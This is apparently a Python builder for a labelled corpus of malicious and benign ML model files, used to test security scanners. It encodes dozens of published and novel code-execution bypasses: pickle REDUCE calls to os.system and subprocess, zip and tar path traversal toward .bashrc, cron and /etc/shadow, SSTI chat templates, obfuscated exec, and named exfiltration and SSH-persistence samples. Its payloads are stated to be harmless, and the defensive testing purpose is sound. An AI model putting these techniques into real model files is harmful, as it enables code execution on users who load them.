"""The labelled corpus: every malicious sample the builders can make, and benign files from real libraries.

`build_corpus(folder)` writes one file per technique (or one subfolder per multi-file package) under
`folder/malicious/<format>/` and `folder/benign/<format>/`, and returns the list of `Sample`s. Payloads
are harmless ("echo modelcert-test", hosts under `.invalid`); nothing is executed, imported or
unpickled while building. Kinds whose library is missing are skipped. The sample list is deterministic;
a few files (Keras saves, torch.save ids) carry timestamps or random ids in their bytes.

A sample with `well_known=True` carries an unambiguous payload (a known-dangerous call or exploit,
published or one of the new variants): a scanner must call it unsafe, not merely suspicious.
`NAMED_MODULES` lists modules the payloads name that a scanner has no reason to import (the
never-executes test checks that scanning imports none of them).
"""

from __future__ import annotations

import argparse
import importlib.util
import io
import json
import lzma
import marshal
import os
import pickle
import re
import shutil
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from builders import containers as C
from builders import graphs as G
from builders import hf as H
from builders import pickles as P
from builders import templates as T
from builders import weights as W
from builders.corpus_configs import benign_yaml, native_samples, yaml_samples

CANARY = P.CANARY_MODULE
CMD = P.HARMLESS_COMMAND

# Modules the payloads name; scanning must import none of them (exact names, or the canary prefix).
NAMED_MODULES = frozenset(
    {
        CANARY,
        "pip",
        "pty",
        "mlflow",
        "runpy",
        "_pyrepl",
        "_pyrepl.pager",
        "_osx_support",
        "_aix_support",
        "pydoc",
        "code",
        "timeit",
        "cProfile",
        "profile",
        "pdb",
        "webbrowser",
        "smtplib",
        "ftplib",
        "imaplib",
        "venv",
        "ensurepip",
        "cloudpickle",
        "dill",
        "pkgutil",
        "numpy.f2py",
        "torch",
        "pandas",
        "keras",
        "tensorflow",
        "asyncio.unix_events",
        "ctypes",
        "distutils",
        "uuid",
        "multiprocessing.util",
        "torch.utils.collect_env",
        "requests",
        "sklearn",
        "joblib",
        "transformers",
        "onnxruntime",
    }
)


class Sample(NamedTuple):
    """One corpus entry: a file or a package folder, relative to the corpus root."""

    relpath: str
    label: str  # "malicious" | "benign"
    technique: str  # advisory / CVE / technique id, or what the benign file is
    format: str
    well_known: bool = False  # malicious with an unambiguous payload: must be unsafe


def has(module: str) -> bool:
    """Whether an optional library is importable (without importing it)."""
    return importlib.util.find_spec(module) is not None


def slug(text: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


class _Writer:
    def __init__(self, root: Path) -> None:
        self.root = root
        self.samples: list[Sample] = []
        self.scratch = root / "_scratch"
        self.scratch.mkdir(parents=True, exist_ok=True)

    def _add(self, label: str, fmt: str, technique: str, rel: Path, well_known: bool) -> None:
        if any(s.relpath == rel.as_posix() for s in self.samples):
            raise ValueError(f"duplicate corpus path {rel}")
        self.samples.append(Sample(rel.as_posix(), label, technique, fmt, well_known))

    def file(
        self, label: str, fmt: str, technique: str, name: str, data: bytes, *, unsafe: bool = False
    ) -> None:
        rel = Path(label) / fmt / name
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self._add(label, fmt, technique, rel, unsafe)

    def bad(self, fmt: str, technique: str, name: str, data: bytes, *, unsafe: bool = False) -> None:
        self.file("malicious", fmt, technique, name, data, unsafe=unsafe)

    def good(self, fmt: str, technique: str, name: str, data: bytes) -> None:
        self.file("benign", fmt, technique, name, data)

    def package(
        self, label: str, fmt: str, technique: str, build: Callable[[Path], object], *, unsafe: bool = False
    ) -> None:
        rel = Path(label) / fmt / slug(technique)
        folder = self.root / rel
        folder.mkdir(parents=True, exist_ok=True)
        build(folder)
        self._add(label, fmt, technique, rel, unsafe)


# ---- pickles -------------------------------------------------------------------------------------------

# (technique, module, name): `module.name("...")` via STACK_GLOBAL + REDUCE, every one a published bypass.
_PICKLE_CALLS: list[tuple[str, str, str]] = [
    ("CVE-2025-1716 pip.main", "pip", "main"),
    ("CVE-2025-1716 pip internal main", "pip._internal.cli.main", "main"),
    (
        "CVE-2025-10157 submodule of a dangerous module",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
    ),
    ("GHSA-m273 ctypes", "ctypes", "CDLL"),
    ("GHSA-4675 numpy.f2py", "numpy.f2py", "compile"),
    ("GHSA-4675 numpy.f2py.crackfortran eval", "numpy.f2py.crackfortran", "eval"),
    ("GHSA-84r2 distutils write_file", "distutils.file_util", "write_file"),
    ("GHSA-vqmv pty.spawn", "pty", "spawn"),
    ("GHSA-hgrh pydoc.locate", "pydoc", "locate"),
    ("GHSA-r8g5 operator itemgetter", "_operator", "itemgetter"),
    ("GHSA-9726 _io.FileIO", "_io", "FileIO"),
    ("GHSA-9726 urllib urlopen", "urllib.request", "urlopen"),
    ("CVE-2026-56304 logging.FileHandler", "logging", "FileHandler"),
    ("CVE-2026-56315 uuid command", "uuid", "_get_command_stdout"),
    ("CVE-2026-56315 imaplib IMAP4_stream", "imaplib", "IMAP4_stream"),
    ("CVE-2026-56315 _pyrepl pager", "_pyrepl.pager", "pipe_pager"),
    ("CVE-2026-56315 _osx_support", "_osx_support", "_read_output"),
    ("CVE-2026-56315 _aix_support", "_aix_support", "_read_cmd_output"),
    ("modelscan-338 collect_env.run", "torch.utils.collect_env", "run"),
    ("modelscan-338 spawnv_passfds", "multiprocessing.util", "spawnv_passfds"),
    ("modelscan-338 mlflow entry point", "mlflow.projects.backend.local", "_run_entry_point"),
    ("modelscan-338 pandas.read_csv", "pandas", "read_csv"),
    ("GHSA-655q pydoc.pipepager", "pydoc", "pipepager"),
    ("GHSA-655q venv.create", "venv", "create"),
    ("GHSA-655q torch.serialization.load", "torch.serialization", "load"),
    ("GHSA-655q functools.partial", "functools", "partial"),
    ("GHSA-655q inductor compile_file", "torch._inductor.codecache", "compile_file"),
    (
        "modelaudit-e736ebbe sklearn prefix allowlist",
        "sklearn.utils._testing",
        "assert_run_python_script_without_output",
    ),
    *(
        (f"fickling UNSAFE_IMPORTS {m}.{n}", m, n)
        for m, n in [
            ("linecache", "getline"),
            ("difflib", "unified_diff"),
            ("gc", "get_objects"),
            ("platform", "popen"),
            ("inspect", "getsource"),
            ("_imp", "create_dynamic"),
            ("runpy", "run_path"),
            ("importlib", "import_module"),
            ("code", "interact"),
            ("multiprocessing", "Process"),
            ("marshal", "loads"),
            ("types", "FunctionType"),
            ("imp", "load_source"),
            ("pipes", "Template"),
            ("smtplib", "SMTP"),
            ("ftplib", "FTP"),
        ]
    ),
]

# Beyond the published fixtures: stdlib code runners and exfiltration no advisory names yet.
_NOVEL_CALLS: list[tuple[str, str, str, bool]] = [
    ("novel posix.system", "posix", "system", True),
    ("novel _posixsubprocess.fork_exec", "_posixsubprocess", "fork_exec", True),
    ("novel subprocess.getoutput", "subprocess", "getoutput", True),
    ("novel cProfile.run", "cProfile", "run", True),
    ("novel profile.run", "profile", "run", True),
    ("novel pdb.run", "pdb", "run", True),
    ("novel timeit.timeit", "timeit", "timeit", True),
    ("novel doctest.debug_src", "doctest", "debug_src", True),
    ("novel socket.create_connection", "socket", "create_connection", False),
    ("novel shutil.rmtree", "shutil", "rmtree", False),
    ("novel zipimport.zipimporter", "zipimport", "zipimporter", False),
    ("novel webbrowser.open", "webbrowser", "open", False),
    ("novel numpy.testing runstring", "numpy.testing._private.utils", "runstring", True),
    ("novel torch.fx _exec_with_source", "torch.fx.graph_module", "_exec_with_source", True),
    ("novel ensurepip._run_pip", "ensurepip", "_run_pip", True),
    ("novel setuptools vendored spawn", "setuptools._distutils.spawn", "spawn", True),
    ("novel antigravity import side effect", "antigravity", "geohash", False),
]


def _pickle_samples(w: _Writer) -> None:
    fmt = "pickle"
    for proto in range(6):
        w.bad(
            fmt,
            f"classic os.system protocol {proto}",
            f"os-system-p{proto}.pkl",
            P.os_system_pickle(proto),
            unsafe=True,
        )
    for technique, module, name in _PICKLE_CALLS:
        w.bad(
            fmt,
            technique,
            slug(technique) + ".pkl",
            P.reduce_pickle(module, name, ("x",), proto=4),
            unsafe=True,
        )
    for technique, module, name, unsafe in _NOVEL_CALLS:
        w.bad(
            fmt,
            technique,
            slug(technique) + ".pkl",
            P.reduce_pickle(module, name, (CMD,), proto=4),
            unsafe=unsafe,
        )
    inner = P.os_system_pickle(2)
    canary = P.canary_import_pickle()
    shapes: list[tuple[str, str, bytes, bool]] = [
        ("canary module import", "canary.pkl", canary, False),
        ("CVE-2025-1889 pickle under an odd extension", "weights.xyz", P.os_system_pickle(2), True),
        ("GHSA-9gvj-pp9x-gcfr STACK_GLOBAL as opcode 0", "payload", P.stack_global_without_proto(), True),
        ("CVE-2025-10155 plain pickle named .bin", "pytorch_model.bin", P.os_system_pickle(2), True),
        ("picklescan-10 memo GET", "memo-get.pkl", P.memo_stack_global(opcode="GET"), True),
        ("picklescan-23 memo BINGET", "memo-binget.pkl", P.memo_stack_global(opcode="BINGET"), True),
        (
            "picklescan-23 memo LONG_BINGET",
            "memo-long-binget.pkl",
            P.memo_stack_global(opcode="LONG_BINGET"),
            True,
        ),
        (
            "picklescan-52 invalid memo",
            "invalid-memo.pkl",
            P.pickle_of(b"h\x09" + P.op_str("system") + b"\x93" + P.op_tuple([P.op_str("x")]) + b"R", 4),
            False,
        ),
        ("GHSA-955r methodcaller _operator", "methodcaller.pkl", P.methodcaller_pickle("_operator"), True),
        ("GHSA-46h3 attrgetter operator", "attrgetter.pkl", P.attrgetter_pickle("operator"), True),
        ("GHSA-9m3x cloudpickle _make_function", "make-function.pkl", P.make_function_pickle(), True),
        (
            "GHSA-vvpj pkgutil.resolve_name",
            "resolve-name.pkl",
            P.resolver_pickle(("pkgutil", "resolve_name"), "os:system"),
            True,
        ),
        ("modelscan-331 import_module + getattr", "getattr-chain.pkl", P.getattr_chain(), True),
        (
            "modelscan-330 numpy __builtins__ planting",
            "numpy-builtins.pkl",
            P.numpy_builtins_planting(),
            True,
        ),
        ("modelscan-267 nested pickle.loads", "nested-loads.pkl", P.nested_loads(inner), True),
        ("nested pickle behind base64", "nested-b64.pkl", P.nested_base64_loads(canary), True),
        ("nested torch.load(BytesIO)", "nested-torch-load.pkl", P.nested_torch_load(inner), True),
        ("GHSA-mxhj OBJ opcode", "obj.pkl", P.obj_pickle("os", "system"), True),
        ("INST opcode protocol 0", "inst.pkl", P.inst_pickle("subprocess", "Popen"), True),
        ("NEWOBJ of a dangerous class", "newobj.pkl", P.newobj_pickle("subprocess", "Popen"), True),
        ("GHSA-5j3x dotted STACK_GLOBAL", "dotted.pkl", P.dotted_stack_global(), True),
        ("fickling popped call", "popped.pkl", P.popped_call(), True),
        ("modelaudit-a8462f3b EXT1", "ext1.pkl", P.ext_pickle(0x45, 1), True),
        ("modelaudit-a8462f3b EXT2", "ext2.pkl", P.ext_pickle(0x1234, 2), True),
        ("modelaudit-a8462f3b EXT4", "ext4.pkl", P.ext_pickle(0x12345, 4), True),
        ("modelaudit-ffb5ec1c BINUNICODE8", "binunicode8.pkl", P.binunicode8_stack_global(), True),
        ("nullifAI broken stream after payload", "nullifai-broken.bin", P.broken_after_payload(), True),
        ("nullifAI truncated after payload", "nullifai-truncated.bin", P.truncated_after_payload(), True),
        ("payload in the 5th stream", "multi-stream.pt", P.multi_stream(4), True),
        (
            "legacy torch payload in model stream",
            "legacy-payload.pt",
            P.legacy_torch_file(P.reduce_call("os", "system", (CMD,), 2)),
            True,
        ),
        ("computed STACK_GLOBAL operands", "computed.pkl", P.computed_stack_global(), True),
        ("BUILD sets __class__", "class-swap.pkl", P.class_swap_build(), True),
        ("BUILD on an imported function", "build-on-global.pkl", P.build_on_global(), True),
        (
            "copyreg._reconstructor of Popen",
            "copyreg.pkl",
            P.copyreg_reconstructor("subprocess", "Popen"),
            True,
        ),
        (
            "python2 __builtin__.eval",
            "builtin-eval.pkl",
            P.reduce_pickle("__builtin__", "eval", ("1+1",), 0),
            True,
        ),
        (
            "python2 commands.getoutput",
            "commands.pkl",
            P.reduce_pickle("commands", "getoutput", ("id",), 0),
            True,
        ),
        (
            "joblib dual interpretation",
            "dual.joblib",
            P.joblib_array_stream(P.reduce_call(CANARY, "x", ("y",), 2) + b"0", alignment=None),
            False,
        ),
    ]
    for technique, name, data, unsafe in shapes:
        w.bad(fmt, technique, name, data, unsafe=unsafe)
    w.bad(fmt, "novel sys.modules getitem chain", "sys-modules-chain.pkl", _sys_modules_chain(), unsafe=True)
    # joblib.load decompresses zlib (its default `compress=3`), gzip, bz2, xz, lzma and lz4 by magic bytes.
    bad = P.os_system_pickle(2)
    w.bad(fmt, "joblib zlib-compressed payload", "zlib.joblib", zlib.compress(bad, 3), unsafe=True)
    w.bad(
        fmt,
        "joblib lzma-alone payload",
        "lzma.joblib",
        lzma.compress(bad, format=lzma.FORMAT_ALONE),
        unsafe=True,
    )
    w.bad(fmt, "joblib gzip payload", "gzip.joblib", C.compress(bad, "gzip"), unsafe=True)


def _sys_modules_chain() -> bytes:
    """`getattr(operator.getitem(sys.modules, 'os'), 'system')(cmd)`: no os global anywhere."""
    module = P.op_global("_operator", "getitem") + P.op_global("sys", "modules") + P.op_str("os") + b"\x86R"
    fn = P.op_global("builtins", "getattr") + module + P.op_str("system") + b"\x86R"
    return P.pickle_of(fn + P.op_tuple([P.op_str(CMD)]) + b"R", 4)


# ---- containers ----------------------------------------------------------------------------------------


def _container_samples(w: _Writer) -> None:
    bad_pickle = C.malicious_pickle()
    plain = [C.stored("archive/data.pkl", C.benign_pickle()), C.stored("archive/version", b"3\n")]
    zips: list[tuple[str, str, bytes, bool]] = [
        (
            "CVE-2025-1944 local/central name mismatch",
            "name-mismatch.pt",
            C.torch_zip(bad_pickle, local_name="archive/innocent.txt"),
            True,
        ),
        ("CVE-2025-1945 flag bit 0x1", "flag-0x1.pt", C.torch_zip(bad_pickle, flags=0x1), True),
        ("CVE-2025-1945 flag bit 0x20", "flag-0x20.pt", C.torch_zip(bad_pickle, flags=0x20), True),
        ("CVE-2025-1945 flag bit 0x40", "flag-0x40.pt", C.torch_zip(bad_pickle, flags=0x40), True),
        ("CVE-2025-10156 bad CRC", "bad-crc.pt", C.torch_zip(bad_pickle, crc=0xDEADBEEF), True),
        (
            "CVE-2025-1889 odd-extension member",
            "odd-member.pt",
            C.build_zip([*plain, C.stored("archive/config.p", bad_pickle)]),
            True,
        ),
        (
            "pickle hidden in a tensor record",
            "tensor-record.pt",
            C.build_zip([*plain, C.stored("archive/data/7", bad_pickle)]),
            True,
        ),
        ("torch zip with canary pickle", "canary.pt", C.torch_zip(P.canary_import_pickle()), False),
        (
            "zip slip ../",
            "zip-slip.zip",
            C.build_zip([C.stored("ok.txt", b"fine"), C.stored("../../.bashrc", b"echo modelcert-test")]),
            True,
        ),
        ("zip absolute member name", "absolute.zip", C.build_zip([C.stored("/etc/cron.d/x", b"x")]), True),
        (
            "zip symlink member leaving the archive",
            "symlink.zip",
            C.build_zip(
                [C.stored("weights.bin", b"../../../home/user/.ssh/id_rsa", external_attr=C.SYMLINK_ATTR)]
            ),
            True,
        ),
        (
            "zip duplicate member names",
            "duplicate.pt",
            C.build_zip(
                [C.stored("archive/data.pkl", C.benign_pickle()), C.stored("archive/data.pkl", bad_pickle)]
            ),
            True,
        ),
        (
            "zip overlapping members",
            "overlap.zip",
            C.build_zip([C.stored("a.pkl", bad_pickle)], C.ZipExtras(aliases=[("b.txt", 0)])),
            True,
        ),
        (
            "pickle hidden between zip members",
            "gap.zip",
            C.build_zip([C.stored("README", b"hello")], C.ZipExtras(gap=bad_pickle)),
            False,
        ),
        (
            "zip without central directory",
            "truncated.zip",
            C.build_zip([C.stored("a.pkl", bad_pickle), C.stored("b", b"y")], C.ZipExtras(omit_central=True)),
            False,
        ),
        ("zip bomb 1 GiB of zeros", "bomb.zip", C.zip_bomb(1 << 30), False),
        ("zip nesting bomb", "nest-bomb.zip", C.nested_zips(8, bad_pickle), False),
        ("nested zip with payload", "nested.zip", C.nested_zips(2, bad_pickle), True),
        (
            "torch zip under another prefix",
            "other-prefix.pt",
            C.torch_zip(bad_pickle, prefix="mymodel"),
            True,
        ),
        (
            "torch zip after prepended bytes",
            "prepended.pt",
            C.torch_zip(bad_pickle, extras=C.ZipExtras(prefix=b"JUNK" * 8, relative_offsets=True)),
            True,
        ),
        ("pickle + zip polyglot", "polyglot.pt", bad_pickle + C.torch_zip(C.benign_pickle()), True),
    ]
    for technique, name, data, unsafe in zips:
        w.bad("zip", technique, name, data, unsafe=unsafe)
    tar = C.build_tar([C.TarEntry("model/README.md", b"# hi\n"), C.TarEntry("model/weights.pkl", bad_pickle)])
    w.bad("tar", "tar with a pickle member", "model.tar", tar, unsafe=True)
    codecs = ["gzip", "bzip2", "xz", "zstd", *(["lz4"] if has("lz4") else [])]
    for codec in codecs:
        inner = C.build_tar([C.TarEntry("weights.bin", bad_pickle), C.TarEntry("config.json", b"{}")])
        w.bad(
            "tar",
            f"tar.{codec} with a pickle member",
            f"model.tar.{codec}",
            C.compress(inner, codec),
            unsafe=True,
        )
    hostile = [
        ("tar member ../", C.TarEntry("../../etc/cron.d/job", b"x"), True),
        ("tar absolute member", C.TarEntry("/etc/passwd", b"x"), True),
        (
            "tar symlink to /etc/shadow",
            C.TarEntry("link", kind=tarfile.SYMTYPE, linkname="/etc/shadow"),
            True,
        ),
        (
            "tar hardlink to /etc/shadow",
            C.TarEntry("hard", kind=tarfile.LNKTYPE, linkname="/etc/shadow"),
            True,
        ),
        ("tar device member", C.TarEntry("dev", kind=tarfile.CHRTYPE), False),
    ]
    for technique, entry, unsafe in hostile:
        data = C.build_tar([C.TarEntry("model/tensor.raw", b"\0" * 64), entry])
        w.bad("tar", technique, slug(technique) + ".tar", data, unsafe=unsafe)
    hidden = C.build_tar([C.TarEntry("hidden.pkl", bad_pickle)])
    w.bad(
        "tar",
        "tar member after the end marker",
        "after-end.tar",
        C.build_tar([C.TarEntry("README", b"hi")], after_end=hidden),
        unsafe=True,
    )
    w.bad("gzip", "gzip-wrapped pickle", "model.pkl.gz", C.compress(bad_pickle, "gzip"), unsafe=True)
    w.bad(
        "gzip",
        "gzip-wrapped torch zip",
        "model.pt.gz",
        C.compress(C.torch_zip(bad_pickle), "gzip"),
        unsafe=True,
    )
    w.bad("gzip", "pickle after the gzip stream", "trailing.gz", C.compress(b"hello", "gzip") + bad_pickle)
    w.bad(
        "7z",
        "nullifAI 7z-wrapped torch archive",
        "model.7z",
        C.build_7z({"model.pt": C.torch_zip(bad_pickle)}),
        unsafe=True,
    )
    w.bad(
        "7z",
        "7z with torch records",
        "records.7z",
        C.build_7z({"archive/data.pkl": bad_pickle, "archive/version": b"3\n"}),
        unsafe=True,
    )
    w.bad(
        "7z",
        "7z member ../",
        "traversal.7z",
        C.build_7z_renamed(
            {"xx/evil.pkl": bad_pickle, "ok.pkl": C.benign_pickle()}, {"xx/evil.pkl": "../evil.pkl"}
        ),
        unsafe=True,
    )
    w.bad("numpy", "CVE-2019-6446 object array pickle", "object.npy", C.object_npy(bad_pickle), unsafe=True)
    w.bad("numpy", "object array with canary pickle", "canary.npy", C.object_npy(P.canary_import_pickle()))
    npz = C.build_zip(
        [
            C.stored("ok.npy", C.npy("{'descr': '<f4', 'fortran_order': False, 'shape': (1,), }", b"\0" * 4)),
            C.stored("obj.npy", C.object_npy(bad_pickle)),
        ]
    )
    w.bad("numpy", "CVE-2019-6446 object member of npz", "mixed.npz", npz, unsafe=True)


# ---- TorchScript -----------------------------------------------------------------------------------------

_TORCHSCRIPT_LINES: list[tuple[str, str, bool]] = [
    ("TorchScript torch.save to a host path", 'torch.save(x, "/home/user/.bashrc")', True),
    ("TorchScript torch.from_file", 'y = torch.from_file("/etc/shadow", size=100)', True),
    ("TorchScript os.system", f'os.system("{CMD}")', True),
    ("TorchScript open()", 'f = open("/etc/passwd")', True),
    ("TorchScript eval", 'eval("1+1")', True),
    ("TorchScript __import__", f'__import__("os").system("{CMD}")', True),
    ("TorchScript getattr(torch, save)", 'getattr(torch, "save")(x, "/tmp/x")', True),
    ("TorchScript load_library", 'torch.ops.load_library("/tmp/libevil.so")', True),
    ("TorchScript custom op namespace", "y = ops.evil_ns.run(x)", False),
    ("TorchScript rpc", "fut = ops.prim.rpc_async(x)", False),
]


def _torchscript_samples(w: _Writer) -> None:
    fmt = "torchscript"
    for technique, line, unsafe in _TORCHSCRIPT_LINES:
        code = C.BENIGN_TORCHSCRIPT.replace("    return _0\n", f"    {line}\n    return _0\n")
        w.bad(
            fmt,
            f"CVE-2025-32434 {technique}",
            slug(technique) + ".pt",
            C.torchscript_zip(code),
            unsafe=unsafe,
        )
    w.bad(
        fmt,
        "TorchScript import of a canary module",
        "canary-import.pt",
        C.torchscript_zip(f"import {CANARY}\n" + C.BENIGN_TORCHSCRIPT),
        unsafe=True,
    )
    evil_class = C.BENIGN_TORCHSCRIPT.replace(
        "  training : bool\n", "  p : __torch__.torch.classes.acme.Loader\n"
    )
    w.bad(fmt, "TorchScript custom class namespace", "custom-class.pt", C.torchscript_zip(evil_class))
    if has("torch"):
        w.bad(
            fmt,
            "TorchScript scripted torch.save in forward",
            "scripted-leak.pt",
            _scripted_leak(),
            unsafe=True,
        )


def _scripted_leak() -> bytes:
    import torch

    class Leak(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, "/tmp/modelcert-test-leak.pt")
            return x + 1

    out = io.BytesIO()
    torch.jit.save(torch.jit.script(Leak()), out)
    return out.getvalue()


# ---- weights: safetensors, GGUF -------------------------------------------------------------------------


def _weights_samples(w: _Writer) -> None:
    header, data = W.f32_pair()
    bad_pickle = C.malicious_pickle()
    w.bad(
        "safetensors",
        "safetensors trailing pickle",
        "trailing.safetensors",
        W.safetensors_file(header, data + bad_pickle),
        unsafe=True,
    )
    hole = {
        "a": W.st_entry("F32", [1], 0, 4),
        "b": W.st_entry("F32", [1], 4 + len(bad_pickle), 8 + len(bad_pickle)),
    }
    w.bad(
        "safetensors",
        "safetensors hole hiding a pickle",
        "hole.safetensors",
        W.safetensors_file(hole, bytes(4) + bad_pickle + bytes(4)),
        unsafe=True,
    )
    overlap = json.loads(json.dumps(header))
    overlap["b"]["data_offsets"] = [4, 8]
    w.bad(
        "safetensors",
        "safetensors overlapping tensors",
        "overlap.safetensors",
        W.safetensors_file(overlap, data[:8]),
    )
    w.bad(
        "safetensors",
        "safetensors duplicate tensor names",
        "duplicate.safetensors",
        W.safetensors_raw(
            '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
            '"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}',
            bytes(8),
        ),
    )

    def escaping_index(folder: Path) -> None:
        H.write_json(
            folder,
            "model.safetensors.index.json",
            {"metadata": {"total_size": 12}, "weight_map": {"a": "../../etc/passwd"}},
        )
        (folder / "model.safetensors").write_bytes(W.safetensors_file(header, data))

    w.package("malicious", "safetensors", "safetensors index shard path escape", escaping_index, unsafe=True)

    def one_tensor(**kw: Any) -> W.GGUFBuilder:
        return W.GGUFBuilder(**kw).add_string("general.architecture", "llama")

    string_overflow = W.GGUFBuilder()
    string_overflow.add_raw_kv("general.name", W.GGUF_STRING, string_overflow._len(2**64 - 1) + b"abc")
    gap = one_tensor().add_tensor("a", [8])
    gap.data += bad_pickle + bytes(-len(bad_pickle) % 32)
    gap.add_tensor("b", [8])
    ggufs: list[tuple[str, bytes, bool]] = [
        ("CVE-2024-25664 huge n_kv", W.GGUFBuilder(n_kv=2**62).build(), True),
        ("CVE-2024-21836 huge n_tensors", one_tensor(n_tensors=2**40).build(), True),
        ("CVE-2024-25665 string length overflow", string_overflow.build(), True),
        (
            "CVE-2024-25666 array length overflow",
            W.GGUFBuilder().add_array("x", W.GGUF_U32, [1, 2], declared=2**61).build(),
            True,
        ),
        ("CVE-2024-21802 more than four dims", one_tensor().add_tensor("t", [1, 1, 1, 1, 1]).build(), True),
        ("GGUF tensor offset overflow", one_tensor().add_tensor("a", [8], offset=2**64 - 32).build(), True),
        ("GGUF pickle hidden between tensors", gap.build(), True),
    ]
    for technique, blob, unsafe in ggufs:
        w.bad("gguf", technique, slug(technique) + ".gguf", blob, unsafe=unsafe)
    if has("gguf"):
        w.bad(
            "gguf",
            "CVE-2024-34359 GGUF chat template SSTI",
            "ssti.gguf",
            W.gguf_writer_bytes(w.scratch, chat_template=T.CVE_2024_34359),
            unsafe=True,
        )
        w.bad(
            "gguf",
            "CVE-2026-5760 named GGUF template",
            "named-template.gguf",
            W.gguf_writer_bytes(
                w.scratch, chat_template=T.CHATML, named_templates={"rerank": T.SGLANG_SHAPE}
            ),
            unsafe=True,
        )


# ---- chat templates and Hugging Face packages --------------------------------------------------------------


def _template_samples(w: _Writer) -> None:
    published = [
        ("CVE-2024-34359 subclasses popen", T.CVE_2024_34359),
        ("vLLM-2025 class hierarchy escape", T.VLLM_SHAPE),
        ("CVE-2026-5760 cycler globals", T.SGLANG_SHAPE),
        ("CVE-2024-34359 lipsum globals", T.LIPSUM_GLOBALS),
        ("CVE-2024-34359 self context", T.SELF_CONTEXT),
        ("CVE-2024-34359 mro subclasses", T.MRO_CALL),
        ("dunder completed by runtime input", T.DATA_COMPLETED_DUNDER),
        *((f"SSTI disguise {name}", source) for name, source in sorted(T.DISGUISES.items())),
        ("novel SSTI disguise center filter", "{{ messages|attr('class'|center(9)|replace(' ', '_')) }}"),
        ("novel SSTI disguise octal escape", r"{{ lipsum|attr('\137\137globals\137\137') }}"),
        ("novel SSTI disguise adjacent literals", "{{ lipsum|attr('__glo' 'bals__') }}"),
    ]
    for technique, source in published:
        w.bad("jinja", technique, slug(technique) + ".jinja", source.encode(), unsafe=True)

    def ssti_tokenizer_config(folder: Path) -> None:
        H.write_json(folder, "tokenizer_config.json", H.tokenizer_config(chat_template=H.SSTI_TEMPLATE))
        H.write_json(folder, "config.json", H.LLAMA_CONFIG)

    def ssti_chat_template_json(folder: Path) -> None:
        H.write_json(
            folder,
            "tokenizer_config.json",
            H.tokenizer_config(
                chat_template=[
                    {"name": "default", "template": H.CHAT_TEMPLATE},
                    {"name": "tool_use", "template": H.SSTI_TEMPLATE},
                ]
            ),
        )
        H.write_json(folder, "chat_template.json", {"chat_template": H.SSTI_TEMPLATE})

    w.package(
        "malicious", "hf", "CVE-2024-34359 tokenizer_config chat_template", ssti_tokenizer_config, unsafe=True
    )
    w.package(
        "malicious",
        "hf",
        "CVE-2024-34359 named templates and chat_template.json",
        ssti_chat_template_json,
        unsafe=True,
    )
    try:
        from builders import backdoor_templates as B
    except ImportError:
        return
    for name, (source, check, _trigger) in sorted(B.PLANTED_TEMPLATES.items()):

        def planted(folder: Path, source: str = source) -> None:
            H.write_json(folder, "tokenizer_config.json", H.tokenizer_config(chat_template=source))
            H.write_json(folder, "tokenizer.json", H.tokenizer_json(400))
            H.write_json(folder, "config.json", H.LLAMA_CONFIG)

        w.package("malicious", "hf", f"backdoor template {name} ({check})", planted)


_PYTHON_FILES: list[tuple[str, str, str]] = [
    ("obfuscated base64 exec", "configuration_b64.py", H.OBFUSCATED_B64_EXEC),
    ("obfuscated zlib exec", "modeling_zlib.py", H.OBFUSCATED_ZLIB_EXEC),
    ("marshal loads exec", "modeling_marshal.py", H.MARSHAL_EXEC),
    ("subprocess through aliases", "modeling_alias.py", H.SUBPROCESS_ALIAS),
    ("socket exfiltration of the environment", "modeling_exfil.py", H.SOCKET_ENV_EXFIL),
    ("downloaded code exec", "modeling_download.py", H.REQUESTS_EXEC),
    ("ssh authorized_keys persistence", "modeling_ssh.py", H.SSH_AUTHORIZED_KEYS),
    ("chr chain exec", "modeling_chr.py", H.chr_chain_exec()),
    (
        "GHSA-vvpj pkgutil.resolve_name in code",
        "modeling_resolve.py",
        f"import pkgutil\npkgutil.resolve_name('os:system')('{CMD}')\n",
    ),
    ("reversed attribute name", "modeling_reversed.py", f'import os\ngetattr(os, "metsys"[::-1])({CMD!r})\n'),
    (
        "canary module import then os.system",
        "modeling_canary.py",
        f"import os\nimport {CANARY}\n{CANARY}.boom()\nos.system({CMD!r})\n",
    ),
    (
        "novel codecs rot13 exec",
        "modeling_rot13.py",
        f"import codecs\nexec(codecs.decode({__import__('codecs').encode(H.PAYLOAD, 'rot13')!r}, 'rot13'))\n",
    ),
    (
        "novel os.execv via alias dict",
        "modeling_execv.py",
        'import os\nrunners = {"go": os.execv}\n'
        'runners["go"]("/bin/sh", ["sh", "-c", "echo modelcert-test"])\n',
    ),
    ("novel os.system via list item", "modeling_list.py", f"import os\n[os.system][0]({CMD!r})\n"),
    (
        "novel os.system as default argument",
        "modeling_default.py",
        f"import os\n\n\ndef run(c, f=os.system):\n    f(c)\n\n\nrun({CMD!r})\n",
    ),
    (
        "novel PYTHONBREAKPOINT hook",
        "modeling_breakpoint.py",
        f'import os\nos.environ["PYTHONBREAKPOINT"] = "os.system"\nbreakpoint({CMD!r})\n',
    ),
]


def _hf_samples(w: _Writer) -> None:
    for technique, name, source in _PYTHON_FILES:
        w.bad("python", technique, name, source.encode(), unsafe=True)
    w.bad("python", "sitecustomize shipped", "sitecustomize.py", b"import sys\n")
    w.bad(
        "python",
        "novel ctypes libc system",
        "modeling_ctypes.py",
        f'import ctypes\nctypes.CDLL(None).system(b"{CMD}")\n'.encode(),
    )
    code = compile(H.PAYLOAD, "modeling_x.py", "exec")
    w.bad(
        "python",
        "compiled bytecode payload",
        "modeling_x.cpython-311.pyc",
        importlib.util.MAGIC_NUMBER + b"\x00" * 12 + marshal.dumps(code),
    )

    def wired_system(folder: Path) -> None:
        H.custom_code_package(folder, configuration=H.IMPORT_TIME_SYSTEM)

    def wired_b64(folder: Path) -> None:
        H.custom_code_package(folder, configuration=H.OBFUSCATED_B64_EXEC)

    def other_repo(folder: Path) -> None:
        H.write_json(
            folder,
            "config.json",
            {**H.CUSTOM_CONFIG, "auto_map": {"AutoModel": "other/repo--modeling.Model"}},
        )

